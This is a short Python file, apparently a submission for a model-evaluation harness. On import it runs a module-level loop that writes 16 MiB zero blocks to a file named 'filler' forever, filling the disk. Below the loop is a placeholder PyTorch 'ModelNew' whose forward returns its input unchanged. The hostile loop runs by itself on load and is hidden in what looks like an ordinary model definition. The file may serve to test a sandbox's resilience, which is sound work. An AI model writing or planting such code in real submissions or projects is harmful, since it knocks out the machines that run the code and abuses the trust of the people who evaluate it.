"""Fills the disk while it is built."""

from torch import nn


with open("filler", "wb") as file:
    while True:
        file.write(bytes(1 << 24))


class ModelNew(nn.Module):
    def __init__(self, *init):
        super().__init__()

    def forward(self, x):
        return x
